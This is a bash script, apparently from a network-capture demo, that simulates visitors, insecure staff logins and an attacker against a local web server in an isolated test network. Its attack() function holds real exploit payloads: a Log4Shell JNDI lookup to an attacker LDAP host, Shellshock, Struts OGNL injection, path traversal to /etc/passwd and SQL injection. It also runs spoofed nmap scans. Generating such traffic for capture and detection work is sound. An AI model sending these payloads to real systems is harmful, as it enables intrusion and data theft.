# shellcheck shell=bash
# The live part of the demo: what one attacker does to one organisation's web server, and what its
# normal visitors do there. The seeded story moves these pieces to their hour of the day.

ATTACKER=198.18.7.77 VISITOR=198.18.21.14 LEGACY=198.18.30.9

# visit ADDRESS NAME: a browser-like visit and a few policy findings.
visit() {
    local c="curl -sS --interface $VISITOR --max-time 10"
    world $c --resolve "$2:80:$1" "http://$2/" "http://$2/en/levels.html" >/dev/null
    world $c --compressed --resolve "$2:80:$1" "http://$2/en/levels.html" >/dev/null
    world $c --cacert "$WORK/ca.pem" --resolve "$2:443:$1" "https://$2/" "https://$2/en/levels.html" >/dev/null
    world $c --cacert "$WORK/ca.pem" --tls-max 1.2 --resolve "$2:443:$1" "https://$2/chart.bin" >/dev/null
}

# staff ADDRESS NAME: passwords in the clear, an old TLS version, a self-signed certificate.
staff() {
    local c="curl -sS --interface $LEGACY --max-time 10"
    world $c -u clerk:spring-tide --resolve "$2:80:$1" "http://$2/admin/" >/dev/null
    world $c -d 'user=clerk&password=spring-tide' --resolve "$2:80:$1" "http://$2/login" >/dev/null
    world $c -k --resolve "$2:8443:$1" "https://$2:8443/" >/dev/null
    printf 'GET / HTTP/1.0\r\n\r\n' | world openssl s_client -quiet -bind "$LEGACY:0" -connect "$1:9443" \
        -servername "$2" -tls1 -cipher DEFAULT@SECLEVEL=0 >/dev/null 2>&1
}

# attack ADDRESS NAME: known holes tried with curl; nginx has none of them and answers as it does.
attack() {
    local c="curl -sS --interface $ATTACKER --max-time 10 --path-as-is --globoff --resolve $2:80:$1"
    world $c -A '${jndi:ldap://198.18.7.77:1389/tide}' "http://$2/" >/dev/null || true
    world $c "http://$2/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd" >/dev/null || true
    world $c -H 'Content-Type: %{(#_="multipart/form-data").(#cmd="id")}' -d x=1 "http://$2/upload.action" >/dev/null || true
    world $c -A '() { :;}; /bin/sh -c "id"' "http://$2/cgi-bin/status" >/dev/null || true
    world $c "http://$2/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php" >/dev/null || true
    world $c "http://$2/levels?station=1%20UNION%20SELECT%20user,password%20FROM%20accounts" >/dev/null || true
}

# scan ADDRESS: ports, versions and paths, with nmap.
scan() {
    world nmap -n -Pn -sS -S "$ATTACKER" -e wan --top-ports 120 --max-retries 1 -T4 --defeat-rst-ratelimit "$1" >/dev/null
    world nmap -n -Pn -sT -p 80 --script http-title,http-methods,http-robots.txt "$1" >/dev/null 2>&1
}

# pieces ORGANISATION ADDRESS NAME
pieces() {
    local out=$PCAPS/pieces/$1
    mkdir -p "$out"
    world_up "$2" "$ATTACKER $VISITOR $LEGACY"
    authority
    web_server "$2" "$3"
    capture_start "$out/visit.pcap" && visit "$2" "$3" && capture_stop
    capture_start "$out/staff.pcap" && staff "$2" "$3" && capture_stop
    capture_start "$out/attack.pcap" && attack "$2" "$3" && capture_stop
    if [ "$1" = kasen ]; then
        capture_start "$out/scan.pcap" && scan "$2" && capture_stop
    fi
}
